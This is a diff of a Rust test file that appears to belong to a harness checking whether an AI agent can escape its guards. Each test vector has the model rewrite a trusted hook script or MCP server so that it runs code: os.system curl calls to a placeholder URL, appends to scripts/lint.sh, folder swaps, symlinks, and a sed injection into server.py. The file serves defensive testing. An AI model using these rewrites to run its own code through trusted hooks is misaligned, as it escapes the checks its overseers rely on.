@@ -26,46 +26,56 @@ EOF
 const SERVER_IN_PROJECT: &str =
     "mcp_servers:\n  srv: {command: /usr/bin/python3, args: [server.py], cwd: srv}";
 
-/// A row of the second trusted-code table.
-macro_rules! rewrite_forms {
-    ($id:literal, $($call:expr),+) => {
+/// The rows of [`TRUSTED_FORMS_TABLE`] but their steps.
+const IN_TRUSTED_FORMS: Vector = Vector {
+    setup: Some(TRUSTED_FORMS),
+    trust: true,
+    quiet: true,
+    keel_config: SERVER_IN_PROJECT,
+    protected: &["{WS}/lib", "{WS}/tools2", "{WS}/tools3", "{WS}/srv"],
+    ..Vector::BASE
+};
+
+/// A row of a trusted-code table: in the project `$base`, `steps` rewrite what the trusted
+/// commands run, then the hook fires once more.
+macro_rules! rewrite {
+    ($base:expr, $id:literal, $($call:expr),+) => {
         Vector {
             id: $id,
             steps: &[&[$($call),+], NEXT_CALL],
-            setup: Some(TRUSTED_FORMS),
-            trust: true,
-            quiet: true,
-            keel_config: SERVER_IN_PROJECT,
-            protected: &["{WS}/lib", "{WS}/tools2", "{WS}/tools3", "{WS}/srv"],
-            ..Vector::BASE
+            ..$base
         }
     };
 }
 
 /// What those forms run, rewritten.
 pub const TRUSTED_FORMS_TABLE: &[Vector] = &[
-    rewrite_forms!(
+    rewrite!(
+        IN_TRUSTED_FORMS,
         "trusted-module-path-write",
         Call::Tool(
             "write",
             r#"{"path": "lib/helper.py", "content": "import os\nos.system('curl -s {URL}/helper')\n"}"#
         )
     ),
-    rewrite_forms!(
+    rewrite!(
+        IN_TRUSTED_FORMS,
         "trusted-stdin-script-write",
         Call::Tool(
             "write",
             r#"{"path": "tools2/stdin_hook.py", "content": "import os\nos.system('curl -s {URL}/stdin')\n"}"#
         )
     ),
-    rewrite_forms!(
+    rewrite!(
+        IN_TRUSTED_FORMS,
         "trusted-wrapped-module-write",
         Call::Tool(
             "write",
             r#"{"path": "tools3/json.py", "content": "import os\nos.system('curl -s {URL}/json')\n"}"#
         )
     ),
-    rewrite_forms!(
+    rewrite!(
+        IN_TRUSTED_FORMS,
         "trusted-config-server-relative-cwd",
         Call::Sh("printf 'import os\\nos.system(\"curl -s {URL}/srv\")\\n' > srv/server.py")
     ),
@@ -89,26 +99,20 @@ EOF
 /// holds by then.
 const NEXT_CALL: &[Call] = &[Call::Tool("ls", r#"{"path": "."}"#)];
 
-/// A row of the trusted-code table: `steps` rewrite what the trusted commands run, then the
-/// hook fires once more.
-macro_rules! rewrite {
-    ($id:literal, $($call:expr),+) => {
-        Vector {
-            id: $id,
-            steps: &[&[$($call),+], NEXT_CALL],
-            setup: Some(TRUSTED_PROJECT),
-            trust: true,
-            quiet: true,
-            protected: &["{WS}/scripts", "{WS}/tools"],
-            ..Vector::BASE
-        }
-    };
-}
+/// The rows of [`TRUSTED_CODE`] but their steps.
+const IN_TRUSTED_PROJECT: Vector = Vector {
+    setup: Some(TRUSTED_PROJECT),
+    trust: true,
+    quiet: true,
+    protected: &["{WS}/scripts", "{WS}/tools"],
+    ..Vector::BASE
+};
 
 /// The model rewrites what a trusted hook or server runs: with the file tools, with
 /// commands, through the script's folder, through a link.
 pub const TRUSTED_CODE: &[Vector] = &[
     rewrite!(
+        IN_TRUSTED_PROJECT,
         "trusted-hook-script-write",
         Call::Tool(
             "write",
@@ -116,6 +120,7 @@ pub const TRUSTED_CODE: &[Vector] = &[
         )
     ),
     rewrite!(
+        IN_TRUSTED_PROJECT,
         "trusted-hook-script-edit",
         Call::Tool(
             "edit",
@@ -123,26 +128,31 @@ pub const TRUSTED_CODE: &[Vector] = &[
         )
     ),
     rewrite!(
+        IN_TRUSTED_PROJECT,
         "trusted-hook-script-append",
         Call::Sh("printf 'curl -s {URL}/hook\\ntouch {OUT}/hooked\\n' >> scripts/lint.sh")
     ),
     rewrite!(
+        IN_TRUSTED_PROJECT,
         "trusted-hook-folder-swap",
         Call::Sh(
             "mv scripts scripts.old && mkdir scripts && printf 'curl -s {URL}/hook\\n' > scripts/lint.sh"
         )
     ),
     rewrite!(
+        IN_TRUSTED_PROJECT,
         "trusted-hook-folder-remove",
         Call::Sh(
             "rm -rf scripts; mkdir -p scripts; printf 'curl -s {URL}/hook\\n' > scripts/lint.sh"
         )
     ),
     rewrite!(
+        IN_TRUSTED_PROJECT,
         "trusted-hook-script-link",
         Call::Sh("ln -sf {OUT}/run.sh scripts/lint.sh")
     ),
     rewrite!(
+        IN_TRUSTED_PROJECT,
         "trusted-server-write",
         Call::Tool(
             "write",
@@ -150,6 +160,7 @@ pub const TRUSTED_CODE: &[Vector] = &[
         )
     ),
     rewrite!(
+        IN_TRUSTED_PROJECT,
         "trusted-server-sibling-write",
         Call::Tool(
             "write",
@@ -157,6 +168,7 @@ pub const TRUSTED_CODE: &[Vector] = &[
         )
     ),
     rewrite!(
+        IN_TRUSTED_PROJECT,
         "trusted-server-new-module",
         Call::Tool(
             "write",
@@ -164,16 +176,19 @@ pub const TRUSTED_CODE: &[Vector] = &[
         )
     ),
     rewrite!(
+        IN_TRUSTED_PROJECT,
         "trusted-server-sed",
         Call::Sh(
             "sed -i 's/exit(0)/exit(__import__(\"os\").system(\"curl -s {URL}\"))/' tools/server.py"
         )
     ),
     rewrite!(
+        IN_TRUSTED_PROJECT,
         "trusted-server-python-rewrite",
         Call::Sh("python3 -c \"open('tools/helpers.py','w').write('import os')\"")
     ),
     rewrite!(
+        IN_TRUSTED_PROJECT,
         "trusted-server-copy-over",
         Call::Sh("cp README.md tools/server.py; touch tools/new.py")
     ),
